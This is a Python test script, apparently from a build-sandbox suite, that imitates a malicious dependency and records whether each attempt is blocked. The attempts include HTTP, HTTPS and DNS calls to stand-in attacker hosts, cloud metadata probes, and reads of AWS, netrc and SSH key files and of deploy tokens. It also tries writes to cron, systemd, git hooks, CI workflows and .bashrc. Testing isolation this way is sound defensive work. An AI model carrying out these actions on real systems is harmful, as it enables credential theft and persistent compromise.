"""Tries what malicious dependencies do, and prints what came of it as JSON. Harmless: canaries, and addresses of none.

Arguments: the place of a local socket, a port, and a process, all outside of the guard; a folder of the toolchain.
"""

import json
import os
import socket
import subprocess
import sys
import tempfile
import urllib.request
from collections.abc import Callable
from pathlib import Path

SOCKET, PORT, OTHER, TOOLCHAIN, HOME = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4], sys.argv[5]


def connected(address: tuple[str, int]) -> str:
    with socket.create_connection(address, 3):
        return "connected"


def local(path: str) -> str:
    with socket.socket(socket.AF_UNIX) as found:
        found.connect(path)
    return "connected"


def through_link() -> str:
    Path("link.sock").symlink_to(SOCKET)
    return local("link.sock")


def own_socket() -> str:
    with socket.socket(socket.AF_UNIX) as server:
        server.bind("own.sock")
        server.listen()
        return local("own.sock")


def datagram() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as found:
        found.sendto(b"x", ("192.0.2.1", 5353))
    return "sent"


def written(path: str) -> str:
    with Path(path).expanduser().open("a") as file:
        file.write("x\n")
    return "written"


def moved(path: str) -> str:
    Path("mine").write_text("x")
    Path("mine").rename(path)
    return "moved"


def temporary() -> str:
    with tempfile.NamedTemporaryFile() as file, tempfile.NamedTemporaryFile(dir="/dev/shm") as other:
        return f"{file.name} {other.name}"


def raw() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 1):
        return "made"


ATTEMPTS: dict[str, Callable[[], object]] = {
    "tcp": lambda: connected(("192.0.2.1", 80)),
    "tcp of the host": lambda: connected(("127.0.0.1", PORT)),
    "metadata": lambda: connected(("169.254.169.254", 80)),
    "metadata by proxy": lambda: urllib.request.urlopen("http://169.254.169.254/latest", timeout=5).read(),
    "dns": lambda: socket.getaddrinfo("exfil.attacker.example", 443),
    "datagram": datagram,
    "raw": raw,
    "http": lambda: urllib.request.urlopen("http://attacker.example/x", timeout=5).read(),
    "https": lambda: urllib.request.urlopen("https://attacker.example/x", timeout=5).read(),
    "socket": lambda: local(SOCKET),
    "socket by link": through_link,
    "cron": lambda: written("/etc/cron.d/builtby-test"),
    "systemd": lambda: written("/etc/systemd/system/builtby-test.service"),
    "toolchain": lambda: written(f"{TOOLCHAIN}/builtby-test"),
    "toolchain by moving": lambda: moved(f"{TOOLCHAIN}/builtby-test"),
    "git hook": lambda: written(".git/hooks/pre-push"),
    "workflow": lambda: written(".github/workflows/x.yml"),
    "source": lambda: written("source.c"),
    "other's memory": lambda: Path(f"/proc/{OTHER}/environ").read_bytes() or "read",
    "other's life": lambda: os.kill(OTHER, 0),
    "real credentials": lambda: Path(f"{HOME}/.aws/credentials").read_text(),
    "real netrc": lambda: Path(f"{HOME}/.netrc").read_text(),
    "bashrc": lambda: written("~/.bashrc"),
    "canary": lambda: Path("~/.ssh/id_rsa").expanduser().read_text(),
    "secret variable": lambda: os.environ["DEPLOY_TOKEN"],
    "secret by form": lambda: os.environ["HARMLESS_NAME"],
    "agent": lambda: os.environ["SSH_AUTH_SOCK"],
    "pipeline file": lambda: os.environ["GITHUB_ENV"],
    "mount": lambda: subprocess.run(["mount", "-t", "tmpfs", "x", "out"], check=True, capture_output=True),
    "own build": lambda: written("out/made"),
    "own socket": own_socket,
    "temporary": temporary,
}


def main() -> None:
    found: dict[str, str] = {}
    for name, attempt in ATTEMPTS.items():
        try:
            found[name] = f"done: {attempt()}"
        except Exception as error:
            found[name] = f"{type(error).__name__}: {error}"
    Path("out/found.json").write_text(json.dumps(found))


main()
